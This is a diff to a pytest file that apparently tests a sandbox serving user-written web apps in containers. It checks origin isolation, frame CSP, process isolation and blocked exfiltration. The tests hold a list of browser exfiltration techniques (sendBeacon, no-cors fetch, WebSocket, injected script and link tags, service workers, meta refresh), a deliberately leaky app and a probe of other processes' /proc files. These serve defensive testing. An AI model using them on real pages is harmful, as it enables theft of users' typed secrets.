@@ -6,10 +6,13 @@ import asyncio
 import http.client
 import re
 import socket
+from collections.abc import Iterator
+from contextlib import suppress
 from pathlib import Path
+from typing import Final
 
 import pytest
-from playwright.async_api import async_playwright, expect
+from playwright.async_api import Error, Page, async_playwright, expect
 
 from iact.core.errors import ModuleLost
 from iact.core.modules.client import Completed, ModuleClient, StateChange
@@ -40,10 +43,12 @@ def app(environ, start_response):
     for pid in filter(str.isdigit, os.listdir("/proc")):
         for name in ("mem", "environ", "maps"):
             try:
-                program = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")[2:3]
+                words = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
                 open(f"/proc/{pid}/{name}", "rb").close()
-                if program and program[0].endswith(b"runner.py") and int(pid) != os.getpid():
-                    seen.append(f"{pid}/{name}")
+                # What starts and supervises others knows nothing of them but their numbers.
+                knows = words[0].endswith(b"python3") and b"serve" in words or words[2:3] and words[2].endswith(b"runner.py")
+                if knows and int(pid) != os.getpid():
+                    seen.append(f"{pid}/{name} {words}")
             except OSError:
                 pass
     start_response("200 OK", [("Content-Type", "text/plain")])
@@ -71,9 +76,14 @@ def ask(instance: AnyInstance, app: str, method: str, path: str = "/", body: str
 pytestmark = either_backend("docker")
 
 
-@pytest.fixture(scope="module")
-def app_module(loop: asyncio.Runner, host: AnyHost, workspace: Path, backend: Backend) -> AnyInstance:
-    return loop.run(backend.start(host, "app", session="one", workspace=workspace))
+@pytest.fixture
+def app_module(
+    loop: asyncio.Runner, host: AnyHost, workspace: Path, backend: Backend
+) -> Iterator[AnyInstance]:
+    """An instance, which serves one app."""
+    instance = loop.run(backend.start(host, "app", session="one", workspace=workspace))
+    yield instance
+    loop.run(instance.stop())
 
 
 async def served(caller: Caller, source: str) -> str:
@@ -99,31 +109,57 @@ def test_what_is_typed_is_kept_in_the_app_and_seen_nowhere_else(
 ) -> None:
     async def scenario() -> None:
         async with ModuleClient(app_module.target) as client:
-            caller, other = Caller(client, "/a"), Caller(client, "/b")
+            caller = Caller(client, "/a")
             app = await served(caller, FORM)
             assert await asyncio.to_thread(ask, app_module, app, "GET") == (200, "kept 0")
             assert await asyncio.to_thread(ask, app_module, app, "POST", "/", SECRET) == (200, "kept 1")
             assert (await asyncio.to_thread(ask, app_module, app, "POST", "/fail", SECRET))[0] == 500
-            spy = await served(other, SPY)
-            assert await asyncio.to_thread(ask, app_module, spy, "GET") == (200, "[]")
             told = await caller.text("stop")
             assert SECRET not in await printed(app_module) + told
             assert app_module.open_app(app) is None
             assert "NotOffered" in await caller.error("stop")
-            again = await served(caller, FORM)
-            assert await asyncio.to_thread(ask, app_module, again, "GET") == (200, "kept 0")
-            for each in (caller, other):
-                await each.text("stop")
 
     loop.run(scenario())
 
 
-async def browse(url: str, host: str | None = None, sent: str = "") -> tuple[str, dict[str, str], str]:
-    """A request as a browser makes it: status line, headers, body."""
+def test_an_app_looks_into_no_process_that_answers_its_agent(
+    loop: asyncio.Runner, app_module: AnyInstance
+) -> None:
+    async def scenario() -> None:
+        async with ModuleClient(app_module.target) as client:
+            spy = await served(Caller(client, "/spy"), SPY)
+            assert await asyncio.to_thread(ask, app_module, spy, "GET") == (200, "[]")
+
+    loop.run(scenario())
+
+
+def test_an_instance_serves_one_app_and_then_no_other(loop: asyncio.Runner, app_module: AnyInstance) -> None:
+    peek = "print(open('/tmp/kept').read())"
+
+    async def scenario() -> None:
+        async with ModuleClient(app_module.target) as client:
+            caller, other = Caller(client, "/a"), Caller(client, "/b")
+            await served(caller, FORM)
+            assert "NotOffered" in await caller.error("serve", source=FORM)
+            assert "not cleared away" in await other.error("serve", source=peek)
+            await caller.text("stop")
+            assert "not cleared away" in await caller.error("serve", source=peek)
+
+    loop.run(scenario())
+
+
+FRAMED: Final = "Sec-Fetch-Dest: iframe\r\nSec-Fetch-Mode: navigate\r\n"
+A_WINDOW: Final = "Sec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\n"
+
+
+async def browse(
+    url: str, host: str | None = None, sent: str = "", said: str = FRAMED
+) -> tuple[str, dict[str, str], str]:
+    """A request as a browser makes it: status line, headers, body. `said`: further headers."""
     name, port = url.removeprefix("http://").rstrip("/").split(":")
     reader, writer = await asyncio.open_connection("127.0.0.1", int(port))
     head = f"{'POST' if sent else 'GET'} / HTTP/1.1\r\nHost: {host or f'{name}:{port}'}\r\nContent-Length: {len(sent)}"
-    writer.write(f"{head}\r\nConnection: keep-alive\r\n\r\n{sent}".encode())
+    writer.write(f"{head}\r\n{said}Connection: keep-alive\r\n\r\n{sent}".encode())
     async with asyncio.timeout(300):
         answer = (await reader.read()).decode()
     writer.close()
@@ -132,48 +168,158 @@ async def browse(url: str, host: str | None = None, sent: str = "") -> tuple[str
     return status, {line.partition(": ")[0].lower(): line.partition(": ")[2] for line in lines}, body
 
 
-def test_the_user_opens_an_app_at_an_origin_of_its_own(loop: asyncio.Runner, app_module: AnyInstance) -> None:
+async def addresses(caller: Caller, source: str) -> tuple[str, str]:
+    """Serve an app; the address that its agent tells, and that of the app in the frame."""
+    outcome = await caller.outcome("serve", {"source": source})
+    assert isinstance(outcome, Completed)
+    url = str(outcome.data["url"])
+    assert re.fullmatch(rf"http://{outcome.data['app']}\.localhost:\d+/", url)
+    return url, url.replace("http://", "http://app.")
+
+
+def test_the_user_opens_an_app_at_origins_of_its_own(loop: asyncio.Runner, app_module: AnyInstance) -> None:
     async def scenario() -> None:
         async with ModuleClient(app_module.target) as client:
             caller = Caller(client, "/user")
-            outcome = await caller.outcome("serve", {"source": FORM})
-            assert isinstance(outcome, Completed)
-            url, app = str(outcome.data["url"]), str(outcome.data["app"])
-            assert re.fullmatch(rf"http://{app}\.localhost:\d+/", url)
-            status, headers, body = await browse(url)
-            assert (status.split()[1], body) == ("200", "kept 0")
+            url, framed = await addresses(caller, FORM)
+            status, headers, body = await browse(url, said="")
+            assert status.split()[1] == "200"
+            assert f'src="{framed}"' in body
             assert "frame-ancestors 'none'" in headers["content-security-policy"]
             assert headers["cache-control"] == "no-store"
-            assert (await browse(url, sent=SECRET))[2] == "kept 1"
-            port = url.rstrip("/").rpartition(":")[2]
+
+            status, headers, body = await browse(framed)
+            assert (status.split()[1], body) == ("200", "kept 0")
+            assert f"frame-ancestors 'self' {url.rstrip('/')};" in headers["content-security-policy"]
+            assert (await browse(framed, sent=SECRET))[2] == "kept 1"
+
+            status, headers, _ = await browse(framed, said=A_WINDOW)
+            assert (status.split()[1], headers["location"]) == ("303", url)
+            assert (await browse(framed, sent=SECRET, said=A_WINDOW))[0].split()[1] == "404"
+            assert (await browse(framed))[2] == "kept 1"
+
+            app, port = url.removeprefix("http://").rstrip("/").split(".localhost:")
             for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"{'0' * 16}.localhost:{port}", f"{app}.localhost:1",
                          f"{app}.localhost.evil.example:{port}", f"evil-{app}.localhost:{port}"):  # fmt: skip
                 assert (await browse(url, host))[0].split()[1] == "404", host
             await caller.text("stop")
-            assert (await browse(url))[0].split()[1] == "404"
+            for one in (url, framed):
+                assert (await browse(one))[0].split()[1] == "404"
 
     loop.run(scenario())
 
 
-def test_a_real_browser_opens_it_and_types(loop: asyncio.Runner, app_module: AnyInstance) -> None:
-    page_of_the_app = FORM.replace("text/plain", "text/html").replace(
-        'f"kept {len(kept)}"',
-        'f"<p>kept {len(kept)}</p><form method=post><input type=password name=k><button>Keep</button></form>"',
-    )
+HTML_FORM: Final = FORM.replace("text/plain", "text/html").replace(
+    'f"kept {len(kept)}"',
+    'f"<p>kept {len(kept)}</p><form method=post><input type=password name=k><button>Keep</button></form>"',
+)
 
+
+def test_a_real_browser_opens_it_and_types(loop: asyncio.Runner, app_module: AnyInstance) -> None:
     async def scenario() -> None:
         async with ModuleClient(app_module.target) as client, async_playwright() as playwright:
-            caller = Caller(client, "/real")
-            outcome = await caller.outcome("serve", {"source": page_of_the_app})
-            assert isinstance(outcome, Completed)
+            url, _ = await addresses(Caller(client, "/real"), HTML_FORM)
             browser = await playwright.chromium.launch(executable_path=chromium(), args=list(ARGUMENTS))
             page = await browser.new_page()
-            await page.goto(str(outcome.data["url"]), timeout=PATIENCE)
-            await page.fill("input", SECRET, timeout=PATIENCE)
-            await page.click("button", timeout=PATIENCE)
-            await expect(page.locator("p")).to_have_text("kept 1", timeout=PATIENCE)
+            await page.goto(url, timeout=PATIENCE)
+            app = page.frame_locator("iframe")
+            await app.locator("input").fill(SECRET, timeout=PATIENCE)
+            await app.locator("button").click(timeout=PATIENCE)
+            await expect(app.locator("p")).to_have_text("kept 1", timeout=PATIENCE)
             await browser.close()
-            await caller.text("stop")
+
+    loop.run(scenario())
+
+
+WAYS_OUT: Final = (
+    "location = there",
+    "top.location = there",
+    "parent.location = there",
+    "open(there)",
+    "open(there, '_top')",
+    "open(there, '_parent')",
+    "fetch(there, {mode: 'no-cors'})",
+    "navigator.sendBeacon(there, 'x')",
+    "new WebSocket(there.replace('http', 'ws'))",
+    "new EventSource(there)",
+    "new Image().src = there",
+    "document.head.append(Object.assign(document.createElement('script'), {src: there}))",
+    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: there}))",
+    "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: there}))",
+    "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=' + there}))",
+    "document.body.append(Object.assign(document.createElement('iframe'), {src: there}))",
+    "document.body.append(Object.assign(document.createElement('object'), {data: there}))",
+    "link.click()",
+    "blank.click()",
+    "above.click()",
+    "pings.click()",
+    "away.submit()",
+    "aboveAway.submit()",
+    "navigator.serviceWorker.register('/worker.js')",
+    "new Worker(URL.createObjectURL(new Blob([`fetch('${there}', {mode: 'no-cors'})`])))",
+    "location = URL.createObjectURL(new Blob([`<script>location = '${there}'</` + 'script>'], {type: 'text/html'}))",
+    "fetch('/away', {mode: 'no-cors'})",
+    "location = '/away'",
+)
+"""What a script of a page can do to send what was typed somewhere."""
+
+LEAKY: Final = '''
+THERE = "{there}"
+PAGE = """<!doctype html><p>here</p><a id=link href="{there}">a</a><a id=blank target=_blank href="{there}">a</a>
+<a id=above target=_top href="{there}">a</a><a id=pings ping="{there}" href="#x">a</a>
+<form id=away action="{there}"></form><form id=aboveAway target=_top action="{there}"></form>"""
+def app(environ, start_response):
+    path = environ["PATH_INFO"]
+    if path == "/away":
+        start_response("303 See Other", [("Location", THERE)])
+        return [b""]
+    kind = "text/javascript" if path == "/worker.js" else "text/html"
+    start_response("200 OK", [("Content-Type", kind), ("Link", f"<{{THERE}}>; rel=preload; as=image"),
+        ("Content-Security-Policy-Report-Only", f"img-src 'none'; report-uri {{THERE}}"), ("Refresh", f"0; url={{THERE}}")])
+    return [PAGE.encode()]
+'''
+
+
+def test_nothing_that_its_page_does_reaches_another_origin_nor_moves_the_window(
+    loop: asyncio.Runner, app_module: AnyInstance
+) -> None:
+    """In Chromium: whatever a script of the app tries, the listener hears nothing, and our page stays."""
+    heard: list[str] = []
+
+    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        heard.append((await reader.readline()).decode())
+        writer.close()
+
+    async def tried(page: Page, url: str, way: str, there: str) -> None:
+        await page.goto(url, timeout=PATIENCE)
+        app = page.frames[1]
+        await app.wait_for_selector("p", timeout=PATIENCE)
+        with suppress(Error):  # what is refused may raise, or take the frame's scripts away
+            await app.evaluate(f"there = {there!r}; {way}; undefined")
+        # What the frame began is over, or refused, before a further page of the same browser is there.
+        other = await page.context.new_page()
+        await other.goto(url, timeout=PATIENCE, wait_until="networkidle")
+        await other.close()
+        assert page.url == url, way
+        assert len(page.context.pages) == 1, way
+        assert heard == [], way
+
+    async def scenario() -> None:
+        server = await asyncio.start_server(listen, "127.0.0.1", 0)
+        there = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/?d={SECRET}"
+        async with server, ModuleClient(app_module.target) as client, async_playwright() as playwright:
+            url, framed = await addresses(Caller(client, "/leaky"), LEAKY.format(there=there))
+            browser = await playwright.chromium.launch(executable_path=chromium(), args=list(ARGUMENTS))
+            page = await (await browser.new_context()).new_page()
+            for way in WAYS_OUT:
+                await tried(page, url, way, there)
+            await page.goto(framed, timeout=PATIENCE)
+            assert page.url == url, "a window that opens the app itself gets our page"
+
+            with suppress(Error):
+                await page.goto(there, timeout=PATIENCE)
+            assert heard != [], "the listener hears a page that may"
+            await browser.close()
 
     loop.run(scenario())
 
@@ -189,18 +335,12 @@ def test_an_app_that_can_not_serve_says_why(loop: asyncio.Runner, app_module: An
     loop.run(scenario())
 
 
-def test_apps_are_bounded_and_end_by_themselves(loop: asyncio.Runner, app_module: AnyInstance) -> None:
+def test_an_app_ends_by_itself(loop: asyncio.Runner, app_module: AnyInstance) -> None:
     dying = FORM + "\nimport os, threading\nthreading.Timer(0.2, os._exit, [0]).start()\n"
 
     async def scenario() -> None:
         async with ModuleClient(app_module.target) as client:
-            callers = [Caller(client, f"/many/{number}") for number in range(5)]
-            for caller in callers[:4]:
-                await served(caller, FORM)
-            assert "no more can be at once" in await callers[4].error("serve", source=FORM)
-            for caller in callers[:4]:
-                await caller.text("stop")
-            app = await served(callers[4], dying)
+            app = await served(Caller(client, "/dying"), dying)
             async with asyncio.timeout(300):
                 while app_module.open_app(app) is not None:  # noqa: ASYNC110 - it ends in the container
                     await asyncio.sleep(0.05)
